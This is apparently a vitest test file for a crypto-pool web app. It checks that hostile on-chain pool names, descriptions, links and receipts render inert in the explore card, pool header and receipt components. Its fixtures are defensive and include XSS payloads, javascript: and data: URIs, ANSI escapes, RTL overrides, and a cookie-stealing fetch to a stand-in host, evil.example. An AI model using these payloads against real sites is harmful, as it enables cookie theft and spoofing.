// Issue 20: what a stranger wrote on the chain reaches the explore page and the pool page inert. The
// components are rendered to HTML (no browser needed) with the hostile pool of test/scripts.test.ts.
import { encodeMetadata, hasUnsafeCharacters, poolName, runway, textReceiptUri } from "@potluck/core";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import type { PoolSummary } from "../hooks/usePools";
import { ChainLink, ChainText } from "./ChainText";
import { Receipt } from "./Claims";
import { PoolCard } from "./Explore";
import { PoolHeader } from "./PoolPage";

const ESC = "\u001b";
const NAME = `Evil \u202Egnp.exe <img src=x onerror=alert(1)> ${ESC}[2J ${ESC}[1;31m SEND ETH TO 0xBAD ${ESC}[0m`;
const metadata = {
  name: NAME,
  description: `<script>alert(1)</script>\u202E ${ESC}]0;pwned${ESC}\\ and\nmore ${ESC}[1;31mred`,
  links: ["javascript:alert(document.cookie)", "data:text/html,<script>alert(1)</script>", "https://example.org/evil", "ipfs://bafybeigdyrzt5sfp7udm7hu76uh7y26nf3efuylqabf3oclgtqy55fbzdi"],
};
const ADDRESS = "0x5FbDB2315678afecb367f032d93F642f64180aa3";
const uri = encodeMetadata(metadata);

/** Every href in the markup. */
const hrefs = (html: string) => [...html.matchAll(/href="([^"]*)"/g)].map((m) => m[1]);

function expectInert(html: string) {
  expect(hasUnsafeCharacters(html.replaceAll("\n", " "))).toBe(false); // a description keeps its line breaks
  expect(html).not.toMatch(/<script|<img|<b>/i); // markup is text, escaped by React
  for (const href of hrefs(html)) expect(href).toMatch(/^(https?:\/\/|#\/pool\/)/);
}

describe("the explore page's card", () => {
  it("shows the hostile pool's name and description inert, the name cut", () => {
    const pool: PoolSummary = {
      address: ADDRESS, asset: "0x0000000000000000000000000000000000000000", maintainer: ADDRESS, metadataURI: uri, metadata, createdOnBlock: 1n,
      name: poolName(uri, ADDRESS),
      assetInfo: { address: "0x0000000000000000000000000000000000000000", symbol: "ETH", decimals: 18 },
      balance: 10n ** 17n, runway: runway(10n ** 17n, 10n ** 18n), status: "active",
    };
    const html = renderToStaticMarkup(<PoolCard pool={pool} />);
    expectInert(html);
    expect(html).toContain("Evil \uFFFDgnp.exe &lt;img src=x onerror=alert(1)&gt;");
    expect(html).toContain("&lt;script&gt;alert(1)&lt;/script&gt;\uFFFD");
    expect(html).toContain("<bdi");
    expect(html).toContain("…");
    expect(html).not.toContain("SEND ETH TO 0xBAD"); // cut before it: the figures below stay in view
    expect(html).toContain("0.1 ETH");
  });
});

describe("the pool page's header", () => {
  it("shows the name, description and links inert, and links only https, http and ipfs", () => {
    const html = renderToStaticMarkup(<PoolHeader pool={{ name: poolName(uri, ADDRESS), status: "active", metadata }} />);
    expectInert(html);
    expect(hrefs(html)).toEqual(["https://example.org/evil", "https://ipfs.io/ipfs/bafybeigdyrzt5sfp7udm7hu76uh7y26nf3efuylqabf3oclgtqy55fbzdi"]);
    expect(html.match(/\(not a link\)/g)).toHaveLength(2);
    expect(html).toContain("javascript:alert(document.cookie)");
    expect(html).toContain('rel="noopener noreferrer nofollow ugc"');
    expect(html).toContain("and\nmore \uFFFD[1;31mred");
  });
});

describe("a claim's receipt", () => {
  it("is a link only when it is https, http or ipfs", () => {
    const evil = renderToStaticMarkup(<Receipt uri="javascript:fetch('https://evil.example/'+document.cookie)" />);
    expectInert(evil);
    expect(hrefs(evil)).toEqual([]);
    expect(evil).toContain("(not a link)");
    expect(hrefs(renderToStaticMarkup(<Receipt uri="data:text/html,<script>alert(1)</script>" />))).toEqual([]);
    expect(hrefs(renderToStaticMarkup(<Receipt uri="https://example.org/r.pdf" />))).toEqual(["https://example.org/r.pdf"]);
    expect(hrefs(renderToStaticMarkup(<Receipt uri="ipfs://bafy" />))).toEqual(["https://ipfs.io/ipfs/bafy"]);
  });
  it("shows a text receipt inline, inert, and no link to a data: URI", () => {
    const text = textReceiptUri(`Invoice 42${ESC}[2J\u202Eevil`);
    const html = renderToStaticMarkup(<Receipt uri={text} />);
    expectInert(html);
    expect(hrefs(html)).toEqual([]);
    expect(html).toContain("Invoice 42\uFFFD[2J\uFFFDevil");
  });
});

describe("ChainText and ChainLink", () => {
  it("cut with an ellipsis and keep the whole (inert) text in the tooltip", () => {
    const html = renderToStaticMarkup(<ChainText text={`a long name${ESC}[0m that goes on`} max={10} />);
    expect(html).toBe(`<bdi title="a long name\uFFFD[0m that goes on">a long na…</bdi>`);
    expect(renderToStaticMarkup(<ChainLink url="java&#10;script:alert(1)" />)).not.toContain("href");
  });
});
